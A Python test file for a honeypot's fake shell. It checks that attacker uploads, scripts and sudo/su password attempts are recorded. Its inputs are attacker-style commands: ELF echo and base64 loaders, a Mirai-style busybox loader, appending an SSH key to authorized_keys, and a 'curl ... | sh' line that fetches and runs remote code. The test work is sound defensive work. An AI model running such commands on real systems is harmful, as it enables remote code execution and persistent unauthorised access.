"""What a fake shell session writes is recorded as an upload; ./FILE, sh FILE and scripts run as a
real host would run them; sudo and su ask for a password that is recorded as a login attempt.
"""

from __future__ import annotations

import base64
import hashlib
from pathlib import Path

from dynapot.events import CATALOGUE, Kind
from dynapot.services.identity import identity_for
from dynapot.services.shell import FakeShell
from dynapot.services.shell_binary import kind_of, runs_on
from dynapot.services.shell_capture import MAX_UPLOADS
from dynapot.services.shell_privileges import SU_DELAY, SUDO_DELAY
from dynapot.services.uploads import UploadStore

NOW = 1_700_000_000.0
# The first 20 bytes of an ELF header: 64-bit little-endian, an executable for x86-64 (e_machine 62).
ELF_X86_64 = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x02\x00\x3e\x00"
ELF_ARM = b"\x7fELF\x01\x01\x01" + b"\x00" * 9 + b"\x02\x00\x28\x00"
ELF_MIPS = b"\x7fELF\x01\x02\x01" + b"\x00" * 9 + b"\x00\x02\x00\x08"  # big-endian


def shell(user: str = "root", **kwargs: object) -> FakeShell:
    return FakeShell(
        identity_for("198.18.4.10", "Linux 5.4"), user, peer="198.18.0.3", clock=lambda: NOW, **kwargs
    )


def escaped(data: bytes) -> str:
    return "".join(f"\\x{b:02x}" for b in data)


def uploads(sh: FakeShell) -> list[dict[str, object]]:
    found = [data for kind, _, data in sh.take_events() if kind == Kind.UPLOAD]
    assert all(data is not None and set(data) <= set(CATALOGUE[Kind.UPLOAD].data) for data in found)
    return found  # type: ignore[return-value]


def test_an_echoed_elf_header_is_one_upload_with_its_digest() -> None:
    sh = shell()
    line = f"cd /tmp; echo -ne '{escaped(ELF_X86_64)}' > .d; chmod +x .d; ./.d; echo $?"
    assert sh.execute(line) == "0\n"  # the host's own architecture: it runs, and says nothing
    [upload] = uploads(sh)
    assert upload["sha256"] == hashlib.sha256(ELF_X86_64).hexdigest() and upload["size"] == 20
    assert upload["path"] == "/tmp/.d" and upload["stored"] is False
    assert sh.execute("ls -l .d").startswith("-rwxr-xr-x 1 root root 20 ")
    sh.close()
    assert uploads(sh) == []  # recorded once


def test_a_loader_that_appends_line_by_line_is_recorded_once_when_made_executable() -> None:
    sh = shell()
    payload = ELF_ARM + bytes(range(256)) * 4
    for start in range(0, len(payload), 100):
        sh.execute(f"echo -ne '{escaped(payload[start : start + 100])}' >> /tmp/.x")
        assert uploads(sh) == []
    sh.execute("chmod 777 /tmp/.x")
    [upload] = uploads(sh)
    assert upload["sha256"] == hashlib.sha256(payload).hexdigest() and upload["size"] == len(payload)
    # another architecture: exec fails as it does on a real x86-64 host
    refused = "-bash: /tmp/.x: cannot execute binary file: Exec format error\n126\n"
    assert sh.execute("/tmp/.x; echo $?") == refused


def test_printf_octal_and_the_upload_store(tmp_path: Path) -> None:
    store = UploadStore(tmp_path)
    sh = shell(uploads=store)
    sh.execute("printf '\\177ELF\\001\\002\\001' > /tmp/m; echo 'ssh-rsa AAAA x@y' >> ~/.ssh/authorized_keys")
    sh.execute("exit")
    found = {u["name"]: u for u in uploads(sh)}
    assert found["m"]["sha256"] == hashlib.sha256(b"\x7fELF\x01\x02\x01").hexdigest()
    assert found["authorized_keys"]["size"] == len(b"ssh-rsa AAAA x@y\n")
    assert all(u["stored"] for u in found.values())
    assert (tmp_path / str(found["m"]["sha256"])).read_bytes() == b"\x7fELF\x01\x02\x01"


def test_a_file_removed_before_it_ran_is_still_recorded_and_uploads_are_bounded() -> None:
    sh = shell()
    sh.execute("echo payload > /tmp/p; rm -f /tmp/p")
    assert [u["name"] for u in uploads(sh)] == ["p"]
    for n in range(MAX_UPLOADS + 5):
        sh.execute(f"echo {n} > /tmp/f{n}; chmod +x /tmp/f{n}")
    assert len(uploads(sh)) == MAX_UPLOADS - 1
    assert sh.counters["uploads not recorded"] == 6


def test_scripts_run_their_lines() -> None:
    sh = shell()
    sh.execute("cd /tmp; printf '#!/bin/sh\\necho arg $1\\ncd /var\\n' > s.sh")
    assert sh.execute("./s.sh x") == "-bash: ./s.sh: Permission denied\n"  # not executable yet
    assert sh.execute("sh s.sh one; bash s.sh two; pwd") == "arg one\narg two\n/tmp\n"  # a child's cd
    assert sh.execute("cd /tmp; chmod +x s.sh; ./s.sh three") == "arg three\n"
    assert sh.execute(". /tmp/s.sh four; pwd") == "arg four\n/var\n"
    assert sh.execute("sh nothing.sh; echo $?") == "sh: 0: cannot open nothing.sh: No such file\n2\n"
    assert sh.execute("bash -c 'cd /tmp; ls *.sh'") == "s.sh\n"
    assert sh.execute("curl -s http://198.51.100.9/x | sh; echo $?").endswith("0\n")
    sh.execute(f"echo -ne '{escaped(ELF_MIPS)}' > /tmp/mips")
    assert sh.execute("sh /tmp/mips; echo $?") == "/tmp/mips: /tmp/mips: cannot execute binary file\n126\n"


def test_what_a_file_is() -> None:
    assert kind_of(ELF_X86_64) == ("elf", "x86_64") and kind_of(ELF_MIPS) == ("elf", "mips")
    assert kind_of(b"#!/usr/bin/env python3\n") == ("script", "/usr/bin/env")
    assert kind_of(b"echo hi\n") == ("script", "")
    assert runs_on("i386", "x86_64") and not runs_on("arm", "x86_64") and runs_on("arm", "aarch64")


def test_sudo_asks_three_times_and_records_each_password() -> None:
    sh = shell(user="guest")
    assert sh.execute("sudo -l") == "" and sh.prompt() == "[sudo] password for guest: "
    assert sh.secret  # the service neither echoes nor records the next line as a command
    assert sh.execute("hunter2") == "Sorry, try again.\n" and sh.pauses == [(0, SUDO_DELAY)]
    sh.execute("123456")
    assert sh.execute("qwerty") == "sudo: 3 incorrect password attempts\n" and sh.status == 1
    assert not sh.secret and sh.prompt().endswith("$ ")
    logins = [data for kind, _, data in sh.take_events() if kind == Kind.LOGIN]
    assert [(d["user"], d["password"], d["accepted"], d["mechanism"]) for d in logins] == [
        ("guest", "hunter2", False, "sudo"),
        ("guest", "123456", False, "sudo"),
        ("guest", "qwerty", False, "sudo"),
    ]
    assert all(set(d) <= set(CATALOGUE[Kind.LOGIN].data) for d in logins)
    assert "hunter2" not in sh.history and sh.execute("sudo -n id") == "sudo: a password is required\n"
    sh.terminal = False  # an exec request without a terminal: nothing to read a password from
    assert sh.execute("sudo id").endswith("configure an askpass helper\nsudo: a password is required\n")
    assert sh.execute("su") == "su: must be run from a terminal\n" and not sh.secret


def test_su_fails_after_its_delay_and_sudo_takes_the_logins_password() -> None:
    sh = shell(user="guest")
    sh.execute("su -")
    assert sh.prompt() == "Password: "
    assert sh.execute("toor") == "su: Authentication failure\n" and sh.pauses == [(0, SU_DELAY)]
    login = {"user": "root", "password": "toor", "accepted": False, "mechanism": "su"}
    assert sh.take_events()[0][2] == login
    sh.execute("sudo id")
    sh.interrupt()  # ^C at the prompt
    assert not sh.secret
    admin = shell(user="root").machine.admin
    assert admin is not None
    sudoer = shell(user=admin.name, password="s3cret")
    sudoer.execute("sudo -i")
    assert sudoer.execute("s3cret") == "" and sudoer.prompt().startswith("root@")
    assert sudoer.execute("id -u") == "0\n"
    root = shell()
    assert root.execute("sudo id -u; sudo su; whoami") == "0\nroot\n" and not root.secret


def test_a_mirai_style_echo_loader_is_recorded_once() -> None:
    # cp a program to get an executable file, empty it, append the binary in pieces, run it
    sh = shell()
    sh.execute("cd /tmp; cp /bin/busybox .e; >.e; chmod 777 .e; ls -l .e")
    assert sh.execute("ls -l .e").startswith("-rwxrwxrwx 1 root root 0 ")
    for start in range(0, len(ELF_X86_64), 8):
        sh.execute(f"echo -ne '{escaped(ELF_X86_64[start : start + 8])}' >> .e")
    assert sh.execute("./.e; echo $?; mv .e .f; ls .e .f") == (
        "0\nls: cannot access '.e': No such file or directory\n.f\n"
    )
    assert sh.execute("cp; cp a") == (
        "cp: missing file operand\nTry 'cp --help' for more information.\n"
        "cp: missing destination file operand after 'a'\nTry 'cp --help' for more information.\n"
    )
    sh.execute("exit")
    [upload] = uploads(sh)  # moved after it ran: the same content, not recorded again
    assert upload["sha256"] == hashlib.sha256(ELF_X86_64).hexdigest() and upload["path"] == "/tmp/.e"


def test_background_jobs_and_nohup() -> None:
    sh = shell()
    out = sh.execute("cd /tmp; nohup ./nothing >/dev/null 2>&1 & echo next")
    assert out.startswith("[1] ") and out.endswith("\nnext\n")  # an interactive shell's job notice
    assert sh.execute("nohup echo hi; cat nohup.out") == (
        "nohup: ignoring input and appending output to 'nohup.out'\nhi\n"
    )
    sh.terminal = False  # an exec request: no job control, no terminal for nohup
    assert sh.execute("sleep 1 & nohup echo hi") == "hi\n"
    sh.close()
    assert uploads(sh) == []  # nohup.out is not the attacker's file


def test_a_payload_decoded_from_base64_keeps_its_bytes() -> None:
    sh = shell()
    encoded = base64.b64encode(ELF_ARM + bytes(range(256))).decode()
    assert sh.execute(f"echo {encoded} | base64 -d > /tmp/.b; chmod +x /tmp/.b") == ""
    [upload] = uploads(sh)
    assert upload["sha256"] == hashlib.sha256(ELF_ARM + bytes(range(256))).hexdigest()
    assert sh.execute("base64 /tmp/.b | base64 -d | wc -c") == "276\n"


def test_what_the_bounds_cut_is_said_once_at_the_end() -> None:
    """Whatever is dropped is counted and shown: a stopped loop and a runaway line become one
    `shell-limits` event when the session ends (none when nothing was cut)."""
    from dynapot.services.shell import finish

    quiet = shell()
    quiet.execute("echo hello")
    assert [kind for kind, _, _ in finish(quiet)] == []
    busy = shell()
    busy.execute("while true; do :; done")
    assert len(busy.execute("seq 1 100000")) == 64 * 1024  # more than 64 KiB made, 64 KiB shown
    limits = [event for event in finish(busy) if event[0] == Kind.SHELL_LIMITS]
    assert len(limits) == 1 and set(limits[0][2]) <= set(CATALOGUE[Kind.SHELL_LIMITS].data)
    counts = limits[0][2]["counts"]
    assert set(counts) == {"loops stopped", "output characters cut"} and counts["loops stopped"] == 1
    assert counts["output characters cut"] > 64 * 1024, counts
    assert "loops stopped" in limits[0][1]
    assert finish(busy) == []  # said once
